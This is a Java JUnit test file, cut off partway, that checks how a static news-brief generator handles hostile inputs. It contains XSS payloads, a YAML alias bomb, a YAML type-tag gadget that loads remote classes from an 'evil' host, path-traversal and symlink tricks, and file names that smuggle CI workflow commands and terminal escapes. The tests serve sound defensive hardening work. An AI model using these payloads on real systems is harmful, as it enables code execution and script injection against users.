package newsbrief.hardening;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import newsbrief.cli.Main;
import newsbrief.diag.Rule;
import newsbrief.testing.SiteFiles;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A catalogue of hostile inputs, each with what must happen: a named diagnostic, or a site built
 * without anything that could run in a reader's browser. No case may end in a stack trace, run
 * longer than a few seconds, or leave a half-written site.
 */
class HostileInputCatalogueTest {

    /** A valid brief; the cases below change one thing in it. */
    static final String BRIEF = """
            ---
            title: "Regional grid operators agree to share outage data"
            date: 2026-11-26
            tags: [energy, grids]
            ---

            ## The Summary

            - Five regional grid operators will publish outage data in one shared format.
            - The first joint report is due in March.

            ## The Signal

            Until now each operator reported outages its own way, which made comparisons slow.

            ## The Implication

            Watch whether smaller utilities adopt the same format before the spring report.
            """;

    /**
     * What a case must end in: a rule named with an exit code, a safe site, or a refused output
     * folder; and text that must not be printed (from a file outside the content folder).
     */
    record Expect(Rule rule, int exit, boolean refusedOutput, String hidden) {
        static Expect diagnostic(Rule rule) {
            return new Expect(rule, 1, false, null);
        }

        /** A broken site.yaml or schema.yaml: exit 2. */
        static Expect badSettings(Rule rule) {
            return new Expect(rule, 2, false, null);
        }

        static Expect safeSite() {
            return new Expect(null, 0, false, null);
        }

        static Expect refusal() {
            return new Expect(null, 2, true, null);
        }

        Expect hiding(String text) {
            return new Expect(rule, exit, refusedOutput, text);
        }
    }

    /** One hostile input: the brief's bytes, something else to do to the content folder, and the outcome. */
    record Case(byte[] brief, Setup setup, Expect expect) {
    }

    interface Setup {
        /** Changes the content folder; returns the output folder to build into. */
        Path apply(Path content, Path temp) throws IOException;
    }

    private static final Setup PLAIN = (content, temp) -> temp.resolve("out");

    static Case frontMatter(String from, String to, Expect expect) {
        return new Case(BRIEF.replace(from, to).getBytes(StandardCharsets.UTF_8), PLAIN, expect);
    }

    static Case addToFrontMatter(String lines, Expect expect) {
        return frontMatter("tags: [energy, grids]\n", "tags: [energy, grids]\n" + lines + "\n", expect);
    }

    static Case addToSignal(String markdown, Expect expect) {
        return frontMatter("comparisons slow.\n", "comparisons slow.\n\n" + markdown + "\n", expect);
    }

    static Case bytes(byte[] brief, Expect expect) {
        return new Case(brief, PLAIN, expect);
    }

    static Case setup(Setup setup, Expect expect) {
        return new Case(BRIEF.getBytes(StandardCharsets.UTF_8), setup, expect);
    }

    /** The brief with {@code tags} given, under the default schema with its tag pattern replaced. */
    static Case tagPattern(String pattern, String tags, Expect expect) {
        Setup schema = (content, temp) -> {
            String defaults = Files.readString(Path.of("src/main/resources/newsbrief/schema/default-schema.yaml"));
            Files.writeString(content.resolve("schema.yaml"),
                    defaults.replace("pattern: \"[a-z0-9]+(-[a-z0-9]+)*\"", "pattern: '" + pattern + "'"));
            return temp.resolve("out");
        };
        return new Case(BRIEF.replace("[energy, grids]", tags).getBytes(StandardCharsets.UTF_8), schema, expect);
    }

    static Stream<Arguments> catalogue() {
        String aliasBomb = "a: &a [x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\n"
                + "c: &c [*b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c]";
        return Stream.of(
                // Front matter
                Arguments.of("no front matter", bytes(BRIEF.substring(BRIEF.indexOf("## The Summary"))
                        .getBytes(StandardCharsets.UTF_8), Expect.diagnostic(Rule.FRONT_MATTER_MISSING))),
                Arguments.of("front matter never closed", frontMatter("---\n\n## The Summary", "\n## The Summary",
                        Expect.diagnostic(Rule.FRONT_MATTER_UNCLOSED))),
                Arguments.of("empty file", bytes(new byte[0], Expect.diagnostic(Rule.FRONT_MATTER_MISSING))),
                Arguments.of("YAML syntax error", addToFrontMatter("author: [unclosed", Expect.diagnostic(Rule.YAML_SYNTAX))),
                Arguments.of("billion laughs", addToFrontMatter(aliasBomb, Expect.diagnostic(Rule.YAML_ALIAS))),
                Arguments.of("Java type tag", addToFrontMatter("author: !!javax.script.ScriptEngineManager "
                        + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil/\"]]]]", Expect.diagnostic(Rule.YAML_TAG))),
                Arguments.of("deep YAML nesting", addToFrontMatter("author: " + "[".repeat(5000) + "]".repeat(5000),
                        Expect.diagnostic(Rule.YAML_SYNTAX))),
                Arguments.of("duplicate key", addToFrontMatter("title: \"Another\"", Expect.diagnostic(Rule.YAML_DUPLICATE_KEY))),
                Arguments.of("title is a list", frontMatter("title: \"Regional grid operators agree to share outage data\"",
                        "title: [a, b]", Expect.diagnostic(Rule.FIELD_TYPE))),
                Arguments.of("10,000-character title", frontMatter("Regional grid operators agree to share outage data",
                        "x".repeat(10_000), Expect.diagnostic(Rule.FIELD_MAX_LENGTH))),
                Arguments.of("script in title", frontMatter("Regional grid operators agree to share outage data",
                        "</title></script><script>alert(1)</script>", Expect.safeSite())),
                Arguments.of("CDATA end in title", frontMatter("Regional grid operators agree to share outage data",
                        "Feeds ]]> break <![CDATA[ here", Expect.safeSite())),
                Arguments.of("quotes in title", frontMatter("\"Regional grid operators agree to share outage data\"",
                        "'He said \"no\", it''s \\\\ final'", Expect.safeSite())),
                Arguments.of("attribute breakout in description", addToFrontMatter(
                        "description: '\"><img src=x onerror=alert(1)>'", Expect.safeSite())),
                Arguments.of("script in author", addToFrontMatter("author: \"<script>alert(1)</script>\"",
                        Expect.safeSite())),
                Arguments.of("10,000 tags", frontMatter("[energy, grids]", "[" + String.join(", ",
                        java.util.stream.IntStream.range(0, 10_000).mapToObj(i -> "t" + i).toList()) + "]",
                        Expect.diagnostic(Rule.FIELD_MAX_ITEMS))),
                Arguments.of("path traversal in tag", frontMatter("[energy, grids]", "[\"../../etc\"]",
                        Expect.diagnostic(Rule.FIELD_PATTERN))),
                Arguments.of("path traversal in slug", addToFrontMatter("slug: ../../evil", Expect.diagnostic(Rule.FIELD_SLUG))),
                Arguments.of("impossible date", frontMatter("2026-11-26", "2024-02-30", Expect.diagnostic(Rule.FIELD_DATE))),
                Arguments.of("date out of range", frontMatter("2026-11-26", "+999999999-12-31", Expect.diagnostic(Rule.FIELD_DATE))),
                Arguments.of("date-time before year 1", frontMatter("2026-11-26", "-0001-01-01T00:00:00Z",
                        Expect.diagnostic(Rule.FIELD_DATE))),
                Arguments.of("date-time after year 9999", frontMatter("2026-11-26", "+10000-01-01T00:00:00Z",
                        Expect.diagnostic(Rule.FIELD_DATE))),
                Arguments.of("year 0", frontMatter("2026-11-26", "0000-01-01", Expect.diagnostic(Rule.FIELD_DATE))),
                Arguments.of("updated after year 9999", addToFrontMatter("updated: +10000-01-01T00:00:00Z",
                        Expect.diagnostic(Rule.FIELD_DATE))),
                // Written in 9999 and in year 1, but years 10000 and 0 in UTC, which feeds, sitemaps
                // and mail headers write (found by the review of issue 10: the email's Date crashed).
                Arguments.of("updated in 9999, in 10000 in UTC", addToFrontMatter("updated: 9999-12-31T23:59:59-18:00",
                        Expect.diagnostic(Rule.FIELD_DATE))),
                Arguments.of("updated in year 1, in year 0 in UTC", addToFrontMatter("updated: 0001-01-01T00:00:00+18:00",
                        Expect.diagnostic(Rule.FIELD_DATE))),
                Arguments.of("updated at the last moment of 9999 in UTC", addToFrontMatter(
                        "updated: 9999-12-31T23:59:59Z", Expect.safeSite())),
                Arguments.of("javascript source URL", addToFrontMatter("sources: [{title: x, url: \"javascript:alert(1)\"}]",
                        Expect.diagnostic(Rule.FIELD_URL))),
                Arguments.of("data source URL", addToFrontMatter("sources: [{title: x, url: \"data:text/html,<script>1</script>\"}]",
                        Expect.diagnostic(Rule.FIELD_URL))),
                Arguments.of("javascript card image", addToFrontMatter("image: \"javascript:alert(1)\"", Expect.safeSite())),
                Arguments.of("draft as text", addToFrontMatter("draft: \"false\"", Expect.diagnostic(Rule.FIELD_TYPE))),
                // Schema patterns are matched in linear time; a back-reference is refused
                Arguments.of("back-reference in a schema pattern", tagPattern("(a*)*\\1b", "[\"" + "a".repeat(35) + "!\"]",
                        Expect.badSettings(Rule.SCHEMA_INVALID))),
                Arguments.of("look-ahead in a schema pattern", tagPattern("(?=a)a+", "[energy]",
                        Expect.badSettings(Rule.SCHEMA_INVALID))),
                Arguments.of("nested quantifiers in a schema pattern", tagPattern("(a+)+", "[\"" + "a".repeat(35) + "!\"]",
                        Expect.diagnostic(Rule.FIELD_PATTERN))),
                // Encoding and files
                Arguments.of("NUL byte", bytes(BRIEF.replace("Five", "Fi\0ve").getBytes(StandardCharsets.UTF_8),
                        Expect.diagnostic(Rule.FILE_ENCODING))),
                Arguments.of("invalid UTF-8", bytes(concat(BRIEF.getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xC3, 0x28}),
                        Expect.diagnostic(Rule.FILE_ENCODING))),
                Arguments.of("UTF-16 file", bytes(BRIEF.getBytes(StandardCharsets.UTF_16), Expect.diagnostic(Rule.FILE_ENCODING))),
                Arguments.of("BOM and CRLF", bytes(("\uFEFF" + BRIEF.replace("\n", "\r\n")).getBytes(StandardCharsets.UTF_8),
                        Expect.safeSite())),
                Arguments.of("file over the size limit", addToSignal("word ".repeat(250_000), Expect.diagnostic(Rule.FILE_TOO_LARGE))),
                Arguments.of("symbolic link out of content", setup((content, temp) -> {
                    Path secret = Files.writeString(temp.resolve("secret.md"), BRIEF);
                    Files.createSymbolicLink(content.resolve("briefs/2026-11-26-linked.md"), secret);
                    return temp.resolve("out");
                }, Expect.diagnostic(Rule.FILE_OUTSIDE_CONTENT))),
                Arguments.of("folder link out of content", setup((content, temp) -> {
                    Path outside = Files.createDirectories(temp.resolve("outside"));
                    Files.writeString(outside.resolve("2026-11-27-secret.md"), BRIEF);
                    Files.createSymbolicLink(content.resolve("briefs/elsewhere"), outside);
                    return temp.resolve("out");
                }, Expect.diagnostic(Rule.FILE_OUTSIDE_CONTENT))),
                Arguments.of("briefs folder is a link out of content", setup((content, temp) -> {
                    Path outside = Files.move(content.resolve("briefs"), temp.resolve("outside-briefs"));
                    Files.createSymbolicLink(content.resolve("briefs"), outside);
                    return temp.resolve("out");
                }, Expect.diagnostic(Rule.FILE_OUTSIDE_CONTENT))),
                Arguments.of("brief link to nothing", setup((content, temp) -> {
                    Files.createSymbolicLink(content.resolve("briefs/2026-11-27-gone.md"), temp.resolve("none.md"));
                    return temp.resolve("out");
                }, Expect.diagnostic(Rule.FILE_UNREADABLE))),
                Arguments.of("folder link loop", setup((content, temp) -> {
                    Files.createSymbolicLink(content.resolve("briefs/2026/again"), content.resolve("briefs"));
                    return temp.resolve("out");
                }, Expect.diagnostic(Rule.FILE_UNREADABLE))),
                Arguments.of("brief link to /dev/zero", setup((content, temp) -> {
                    Files.createSymbolicLink(content.resolve("briefs/2026-11-27-zero.md"), Path.of("/dev/zero"));
                    return temp.resolve("out");
                }, Expect.diagnostic(Rule.FILE_OUTSIDE_CONTENT))),
                Arguments.of("FIFO as a brief", setup((content, temp) -> {
                    mkfifo(content.resolve("briefs/2026-11-27-pipe.md"));
                    return temp.resolve("out");
                }, Expect.diagnostic(Rule.FILE_UNREADABLE))),
                Arguments.of("site.yaml links out of content", setup((content, temp) -> {
                    Path secret = Files.writeString(temp.resolve("site.yaml"), "title: [SECRET-SITE-LINE\n");
                    Files.delete(content.resolve("site.yaml"));
                    Files.createSymbolicLink(content.resolve("site.yaml"), secret);
                    return temp.resolve("out");
                }, Expect.badSettings(Rule.FILE_OUTSIDE_CONTENT).hiding("SECRET-SITE-LINE"))),
                Arguments.of("schema.yaml links out of content", setup((content, temp) -> {
                    Path secret = Files.writeString(temp.resolve("schema.yaml"), "sections: [SECRET-SCHEMA-LINE\n");
                    Files.createSymbolicLink(content.resolve("schema.yaml"), secret);
                    return temp.resolve("out");
                }, Expect.badSettings(Rule.FILE_OUTSIDE_CONTENT).hiding("SECRET-SCHEMA-LINE"))),
                Arguments.of("schema.yaml links to /dev/zero", setup((content, temp) -> {
                    Files.createSymbolicLink(content.resolve("schema.yaml"), Path.of("/dev/zero"));
                    return temp.resolve("out");
                }, Expect.badSettings(Rule.FILE_OUTSIDE_CONTENT))),
                Arguments.of("schema.yaml links to a FIFO in content", setup((content, temp) -> {
                    Files.createSymbolicLink(content.resolve("schema.yaml"), mkfifo(content.resolve("pipe")));
                    return temp.resolve("out");
                }, Expect.badSettings(Rule.FILE_UNREADABLE))),
                Arguments.of("FIFO as site.yaml", setup((content, temp) -> {
                    Files.delete(content.resolve("site.yaml"));
                    mkfifo(content.resolve("site.yaml"));
                    return temp.resolve("out");
                }, Expect.badSettings(Rule.FILE_UNREADABLE))),
                Arguments.of("schema.yaml link to nothing", setup((content, temp) -> {
                    Files.createSymbolicLink(content.resolve("schema.yaml"), content.resolve("none.yaml"));
                    return temp.resolve("out");
                }, Expect.badSettings(Rule.FILE_UNREADABLE))),
                Arguments.of("site.yaml over the size limit", setup((content, temp) -> {
                    Files.writeString(content.resolve("site.yaml"), "# padding\n".repeat(120_000), StandardOpenOption.APPEND);
                    return temp.resolve("out");
                }, Expect.badSettings(Rule.FILE_TOO_LARGE))),
                // Body
                Arguments.of("script block", addToSignal("<script>alert(1)</script>", Expect.diagnostic(Rule.BLOCK_NOT_ALLOWED))),
                Arguments.of("inline script", addToSignal("Text <script>alert(1)</script> more.", Expect.safeSite())),
                Arguments.of("inline event handler", addToSignal("Text <img src=x onerror=alert(1)> more.", Expect.safeSite())),
                Arguments.of("javascript Markdown link", addToSignal("[click](javascript:alert(1))", Expect.safeSite())),
                Arguments.of("entity-encoded javascript link", addToSignal("[click](&#106;avascript:alert(1))", Expect.safeSite())),
                Arguments.of("javascript autolink", addToSignal("<javascript:alert(1)>", Expect.safeSite())),
                Arguments.of("raw javascript anchor", addToSignal("<a href=\"JaVaScRiPt:alert(1)\">x</a>", Expect.safeSite())),
                Arguments.of("iframe block", addToSignal("<iframe src=\"https://evil.example/\"></iframe>",
                        Expect.diagnostic(Rule.BLOCK_NOT_ALLOWED))),
                Arguments.of("inline iframe", addToSignal("See <iframe src=\"https://evil.example/\"></iframe>.",
                        Expect.safeSite())),
                Arguments.of("object and embed", addToSignal("x <object data=x></object><embed src=x>", Expect.safeSite())),
                Arguments.of("style element", addToSignal("x <style>body{display:none}</style>", Expect.safeSite())),
                Arguments.of("svg onload", addToSignal("x <svg onload=alert(1)><circle r=1 /></svg>", Expect.safeSite())),
                Arguments.of("form and button", addToSignal("x <form action=https://evil/><button>Go</button></form>",
                        Expect.safeSite())),
                Arguments.of("data URI image", addToSignal("![x](data:text/html;base64,PHNjcmlwdD4=)", Expect.safeSite())),
                Arguments.of("script in heading", frontMatter("## The Signal", "## <script>alert(1)</script>",
                        Expect.diagnostic(Rule.SECTION_UNKNOWN))),
                Arguments.of("BEL in the body", addToSignal("Ring\u0007 the bell.", Expect.diagnostic(Rule.CONTROL_CHARACTER))),
                Arguments.of("C1 control in the body", addToSignal("Next\u0085line.", Expect.diagnostic(Rule.CONTROL_CHARACTER))),
                Arguments.of("DEL in front matter", addToFrontMatter("author: \"Grid\u007F desk\"",
                        Expect.diagnostic(Rule.CONTROL_CHARACTER))),
                Arguments.of("control character as a YAML escape", frontMatter("share outage data\"",
                        "share outage data\\x07\\e\"", Expect.diagnostic(Rule.CONTROL_CHARACTER))),
                Arguments.of("no-break space in a heading", frontMatter("## The Signal", "## The\u00A0Signal",
                        Expect.safeSite())),
                Arguments.of("zero-width space in a heading", frontMatter("## The Signal", "## The Sig\u200Bnal",
                        Expect.safeSite())),
                Arguments.of("zero-width joiner, word joiner and BOM in a heading", frontMatter("## The Signal",
                        "## \uFEFFThe\u200D Sig\u2060nal\u200C", Expect.safeSite())),
                Arguments.of("5,000 nested quotes", addToSignal(">".repeat(5000) + " deep", Expect.safeSite())),
                Arguments.of("10,000 brackets", addToSignal("[".repeat(10_000) + "x" + "]".repeat(10_000), Expect.safeSite())),
                Arguments.of("10,000 emphasis markers", addToSignal("*_".repeat(10_000) + "x", Expect.safeSite())),
                Arguments.of("data URI link", addToSignal("[x](data:text/html,<script>alert(1)</script>)", Expect.safeSite())),
                Arguments.of("50,000 list items", addToSignal("- a\n".repeat(50_000), Expect.safeSite())),
                // Output folder
                Arguments.of("output into the content folder", setup((content, temp) -> content.resolve("site"),
                        Expect.refusal())),
                Arguments.of("output into the content folder through a link", setup((content, temp) ->
                        Files.createSymbolicLink(temp.resolve("alias"), content).resolve("site"), Expect.refusal())),
                Arguments.of("output folder is a link to nothing", setup((content, temp) ->
                        Files.createSymbolicLink(temp.resolve("published"), temp.resolve("gone")), Expect.refusal())),
                Arguments.of("output over someone's folder", setup((content, temp) -> {
                    Path folder = Files.createDirectories(temp.resolve("thesis"));
                    Files.writeString(folder.resolve("chapter1.tex"), "years of work");
                    return folder;
                }, Expect.refusal())),
                Arguments.of("output onto a file", setup((content, temp) -> Files.writeString(temp.resolve("notes.txt"), "x"),
                        Expect.refusal())));
    }

    /** Makes a named pipe: reading one waits for a writer that never comes. */
    static Path mkfifo(Path path) throws IOException {
        try {
            int exit = new ProcessBuilder("mkfifo", path.toString()).inheritIO().start().waitFor();
            assertEquals(0, exit, "mkfifo " + path);
            return path;
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IOException(e);
        }
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] all = new byte[a.length + b.length];
        System.arraycopy(a, 0, all, 0, a.length);
        System.arraycopy(b, 0, all, a.length, b.length);
        return all;
    }

    @TempDir
    Path temp;

    @ParameterizedTest(name = "{0}")
    @MethodSource("catalogue")
    void endsInAClearDiagnosticOrASafeSite(String name, Case hostile) throws IOException {
        Path content = temp.resolve("content");
        SiteFiles.copyTree(Path.of("src/test/resources/sites/basic/content"), content);
        Files.write(content.resolve("briefs/2026-11-26-hostile.md"), hostile.brief());
        Path out = hostile.setup().apply(content, temp);
        List<String> before = Files.isDirectory(out) ? SiteFiles.list(out) : List.of();
        StringWriter stdout = new StringWriter();
        StringWriter stderr = new StringWriter();

        int exit = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> Main.run(
                new String[] {"build", "--content", content.toString(), "--out", out.toString(), "--color=never"},
                new PrintWriter(stdout), new PrintWriter(stderr)));

        String errors = stderr.toString();
        assertFalse(errors.contains("Exception") || errors.contains("\tat "), () -> "a stack trace:\n" + errors);
        Expect expect = hostile.expect();
        if (expect.hidden() != null) {
            assertFalse(errors.contains(expect.hidden()), () -> "shows a file from outside the content:\n" + errors);
        }
        if (expect.refusedOutput()) {
            assertEquals(expect.exit(), exit, errors);
            assertTrue(errors.contains("error: refusing"), errors);
            assertEquals(before, Files.isDirectory(out) ? SiteFiles.list(out) : List.of(), "the folder is untouched");
        } else if (expect.rule() != null) {
            assertTrue(errors.contains("[" + expect.rule().id() + "]"), () -> "expected [" + expect.rule() + "] in:\n" + errors);
            assertEquals(expect.exit(), exit, errors);
            assertFalse(Files.exists(out), "nothing is written");
        } else {
            assertEquals(expect.exit(), exit, errors);
            assertNothingRuns(out);
        }
    }

    /** What a run of the command line printed. */
    record Run(int exit, String out, String err) {
    }

    static Run cli(String... args) {
        StringWriter stdout = new StringWriter();
        StringWriter stderr = new StringWriter();
        int exit = Main.run(args, new PrintWriter(stdout), new PrintWriter(stderr));
        return new Run(exit, stdout.toString(), stderr.toString());
    }

    /** The basic site with one more brief, written as given, under a name as given. */
    private Path siteWith(String fileName, String brief) throws IOException {
        Path content = temp.resolve("content");
        SiteFiles.copyTree(Path.of("src/test/resources/sites/basic/content"), content);
        Files.writeString(content.resolve("briefs").resolve(fileName), brief, StandardCharsets.UTF_8);
        return content;
    }

    /** A key and a file name that hold a line end, a workflow command, ESC, BEL and a bidi override. */
    private Path deceivingSite() throws IOException {
        String key = "\"evil\\n::error file=x.md,line=1::owned\\e[2J\\a\\u202Egnp.exe\": 1";
        return siteWith("2026-11-26-x\n::error::named.md", BRIEF.replace("tags: [energy, grids]\n",
                "tags: [energy, grids]\n" + key + "\n"));
    }

    private static void assertNoControlCharacters(String printed) {
        printed.lines().forEach(line -> line.chars().forEach(c -> assertFalse(c < 0x20 && c != '\t' || c == 0x7F
                || c >= 0x80 && c <= 0x9F || c == 0x2028 || c == 0x2029 || c >= 0x202A && c <= 0x202E,
                () -> "control character " + Integer.toHexString(c) + " in: " + line)));
    }

    @org.junit.jupiter.api.Test
    void controlCharactersInKeysAndFileNamesAreShownNotObeyedInText() throws IOException {
        Run run = cli("check", "--content", deceivingSite().toString(), "--color=never");

        assertNoControlCharacters(run.err());
        assertTrue(run.err().lines().noneMatch(line -> line.startsWith("::")), run.err());
        assertTrue(run.err().contains("unknown front matter key \"evil<U+000A>::error file=x.md,line=1::owned"
                + "<U+001B>[2J<U+0007><U+202E>gnp.exe\""), run.err());
        assertTrue(run.err().contains("2026-11-26-x<U+000A>::error::named.md:"), run.err());
    }

    @org.junit.jupiter.api.Test
    void controlCharactersCannotStartAWorkflowCommandOfTheirOwn() throws IOException {
        Run run = cli("check", "--content", deceivingSite().toString(), "--format=github");

        assertNoControlCharacters(run.out());
        List<String> lines = run.out().lines().toList();
        assertFalse(lines.isEmpty(), run.out());
        lines.forEach(line -> assertTrue(line.matches("::(error|warning) file=[^:,]*,line=\\d+,col=\\d+,title=[a-z-]+::.*"),
                line));
        assertTrue(run.out().contains("/2026-11-26-x<U+000A>%3A%3Aerror%3A%3Anamed.md,line="), run.out());
    }

    @org.junit.jupiter.api.Test
    void controlCharactersAreEscapedInJsonAndKeepTheirValue() throws IOException {
        Run run = cli("check", "--content", deceivingSite().toString(), "--format=json");

        assertNoControlCharacters(run.out());
        com.fasterxml.jackson.databind.JsonNode array = new com.fasterxml.jackson.databind.ObjectMapper()
                .readTree(run.out());
        assertTrue(array.toString().contains("owned"), run.out());
        assertTrue(java.util.stream.StreamSupport.stream(array.spliterator(), false).anyMatch(entry -> entry
                .get("message").asText().contains("\"evil\n::error file=x.md,line=1::owned\u001b[2J\u0007\u202Egnp")),
                run.out());
    }

    private Run checkBriefBytes(byte[] brief) throws IOException {
        Path content = siteWith("2026-11-26-hostile.md", "");
        Files.write(content.resolve("briefs/2026-11-26-hostile.md"), brief);
        return cli("check", "--content", content.toString(), "--color=never");
    }

    @org.junit.jupiter.api.Test
    void aNulInACarriageReturnFileIsReportedAtItsLineAndCharacter() throws IOException {
        String brief = BRIEF.replace("- Five", "- Fivé\0").replace("\n", "\r");

        Run run = checkBriefBytes(brief.getBytes(StandardCharsets.UTF_8));

        assertTrue(run.err().contains("2026-11-26-hostile.md:9:7: error: file contains a NUL character"), run.err());
    }

    @org.junit.jupiter.api.Test
    void invalidUtf8InACarriageReturnFileIsReportedAtItsLineAndCharacter() throws IOException {
        byte[] head = ("\uFEFF" + BRIEF.substring(0, BRIEF.indexOf("- Five") + 2).replace("\n", "\r") + "Fivé")
                .getBytes(StandardCharsets.UTF_8);

        Run run = checkBriefBytes(concat(head, new byte[] {(byte) 0xC3, 0x28, '\r'}));

        assertTrue(run.err().contains("2026-11-26-hostile.md:9:7: error: file is not valid UTF-8 (byte "
                + (head.length + 1) + ")"), run.err());
    }

    static Stream<Arguments> badUsage() {
        return Stream.of(
                Arguments.of(List.of("check", "--format", "xml"), "newsbrief check: error: invalid value for option "
                        + "'--format': expected text, json or github, not 'xml'"),
                Arguments.of(List.of("build", "--color=sometimes"), "newsbrief build: error: invalid value for option "
                        + "'--color': expected auto, always or never, not 'sometimes'"),
                Arguments.of(List.of("check", "--contnt", "x"), "newsbrief check: error: unknown options: '--contnt', 'x'; "
                        + "did you mean --content or --color?"),
                Arguments.of(List.of("serve", "--port", "eighty"), "newsbrief serve: error: invalid value for option "
                        + "'--port': 'eighty' is not an int"),
                Arguments.of(List.of("publish"), "newsbrief: error: unmatched argument at index 0: 'publish'"),
                Arguments.of(List.of(), "newsbrief: error: a command is required: build, check, serve, new, import or email"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("badUsage")
    void badUsageIsOneLineAndAPointerToHelp(List<String> args, String message) {
        Run run = cli(args.toArray(String[]::new));

        assertEquals(2, run.exit());
        String command = message.substring(0, message.indexOf(": error:"));
        assertEquals(message + "\nsee '" + command + " --help'\n", run.err().replace("\r\n", "\n"));
        assertEquals("", run.out());
    }

    @org.junit.jupiter.api.Test
    void enumValuesAreTakenInAnyCase() throws IOException {
        Path content = siteWith("2026-11-26-fine.md", BRIEF);

        assertEquals(0, cli("check", "--content", content.toString(), "--format", "GitHub").exit());
    }

    @org.junit.jupiter.api.Test
    void oneBriefIsCountedAsOne() throws IOException {
        Path content = temp.resolve("one");
        Files.createDirectories(content.resolve("briefs"));
        Files.copy(Path.of("src/test/resources/sites/basic/content/site.yaml"), content.resolve("site.yaml"));
        Files.writeString(content.resolve("briefs/2026-11-26-only.md"), BRIEF);

        assertEquals("the 1 brief is valid\n", cli("check", "--content", content.toString()).out());
        Files.writeString(content.resolve("briefs/2026-11-26-only.md"), BRIEF.replace("2026-11-26", "2024-02-30"));
        assertTrue(cli("check", "--content", content.toString()).err().endsWith("\n1 error in 1 of 1 brief\n"));
    }

    @org.junit.jupiter.api.Test
    void aValidCheckWithWarningsEndsInOneLine() throws IOException {
        // A placeholder in a draft: a warning (in a brief to be published it is an error).
        Path content = siteWith("2026-11-26-tk.md", BRIEF.replace("Watch whether", "TK Watch whether")
                .replace("tags: [energy, grids]\n", "tags: [energy, grids]\ndraft: true\n"));

        Run run = cli("check", "--content", content.toString(), "--color=never");

        assertEquals(0, run.exit(), run.err());
        assertEquals("all 5 briefs are valid, with 1 warning\n", run.out());
        assertTrue(run.err().lines().allMatch(line -> line.startsWith(" ") || line.contains(": warning: ")), run.err());
    }

    @org.junit.jupiter.api.Test
    void errorsInFilesThatAreNotBriefsAreNotCountedAsBriefs() throws IOException {
        Path content = temp.resolve("links");
        Files.createDirectories(content.resolve("briefs"));
        Files.copy(Path.of("src/test/resources/sites/basic/content/site.yaml"), content.resolve("site.yaml"));
        Files.writeString(content.resolve("briefs/2026-11-26-only.md"), BRIEF.replace("## The Signal", "## The Signl"));
        Path outside = Files.writeString(temp.resolve("outside.md"), BRIEF);
        Files.createSymbolicLink(content.resolve("briefs/2026-11-26-a.md"), outside);
        Files.createSymbolicLink(content.resolve("briefs/2026-11-26-b.md"), outside);

        Run run = cli("check", "--content", content.toString());

        assertTrue(run.err().endsWith(" in 3 files (1 brief read)\n"), run.err());
    }

    @org.junit.jupiter.api.Test
    void aBrokenSiteFileIsSummedUpForWhatTheCommandDid() throws IOException {
        Path content = siteWith("2026-11-26-fine.md", BRIEF);
        Files.writeString(content.resolve("site.yaml"), "title: [unclosed\n");
        String shown = new newsbrief.content.ContentScanner(Path.of("")).displayPath(content.resolve("site.yaml"));

        assertTrue(cli("check", "--content", content.toString()).err()
                .endsWith("\n1 error in " + shown + "; no brief was checked\n"));
        assertTrue(cli("build", "--content", content.toString(), "--out", temp.resolve("out").toString()).err()
                .endsWith("\n1 error in " + shown + "; nothing was built\n"));
    }

    @org.junit.jupiter.api.Test
    void pathsAreShownRelativeToTheCurrentFolderEvenOutsideIt() throws IOException {
        Path content = siteWith("2026-11-26-bad.md", BRIEF.replace("## The Signal", "## The Signl"));
        Path relative = Path.of("").toAbsolutePath().relativize(content);

        Run run = cli("check", "--content", relative.toString());

        assertTrue(relative.startsWith(".."), relative::toString);
        assertTrue(run.err().startsWith(relative.toString().replace('\\', '/') + "/briefs/2026-11-26-bad.md:"), run.err());
    }

    /** A bad --base-url is the option's fault; a password in it is never printed. */
    @ParameterizedTest(name = "{0}")
    @org.junit.jupiter.params.provider.CsvSource(delimiter = '|', value = {
        "notaurl|\"notaurl\" is not an absolute http(s) URL",
        "https://deploy:s3cret@example.github.io/repo/|\"https://…@example.github.io/repo/\" holds a user name or "
                + "password before \"@\"; the address is published on every page"})
    void aBadBaseUrlOptionIsBlamedOnTheOption(String url, String problem) throws IOException {
        Path content = siteWith("2026-11-26-fine.md", BRIEF);

        Run run = cli("build", "--content", content.toString(), "--out", temp.resolve("out").toString(),
                "--base-url", url);

        assertEquals(2, run.exit());
        assertEquals("--base-url: error: " + problem + "; expected e.g. https://user.github.io/repo/\n"
                + "see 'newsbrief build --help'\n", run.err());
        assertFalse(run.err().contains("s3cret"), run.err());
    }

    @org.junit.jupiter.api.Test
    void aMissingContentFolderIsCalledMissing() {
        Path missing = temp.resolve("nonexistent");

        Run run = cli("check", "--content", missing.toString());

        assertEquals(2, run.exit());
        assertEquals("--content: error: content folder \"" + missing + "\" does not exist; expected a folder with "
                + "site.yaml and briefs/\nsee 'newsbrief check --help'\n", run.err());
    }

    static Stream<Arguments> newHeadlines() {
        return Stream.of(
                Arguments.of("Курс рубля", List.of("--date", "2026-11-26"), "2026-11-26-kurs-rubla.md"),
                Arguments.of("人民币汇率", List.of("--date", "2026-11-26"), "2026-11-26-ren-min-bi-hui-lu.md"),
                Arguments.of("Ελληνικά νέα", List.of("--date", "2026-11-26"), "2026-11-26-ellenika-nea.md"),
                Arguments.of("Курс рубля", List.of("--slug", "rouble-rate", "--date", "2026-11-20T09:30:00+01:00",
                        "--tags", "markets,russia"), "2026-11-20-rouble-rate.md"));
    }

    @ParameterizedTest(name = "{0} {1}")
